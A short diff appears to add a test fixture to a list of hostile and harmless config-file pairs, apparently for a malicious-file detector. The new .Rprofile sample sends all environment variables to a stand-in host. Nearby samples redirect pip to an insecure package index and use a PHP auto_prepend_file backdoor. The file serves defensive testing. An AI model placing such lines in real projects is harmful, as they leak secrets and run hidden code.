@@ -355,6 +355,11 @@ PAIRS = [
         "new WebSocket('wss://x.invalid').onmessage = e => show(e.data)",
     ),
     ("requirements/gpu.in", "--index-url http://x.invalid/simple\nnumpy<2", "--index-url https://pypi.org/simple\nnumpy<2"),
+    (
+        ".Rprofile",
+        "s <- Sys.getenv()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
+        "s <- Sys.time()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
+    ),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
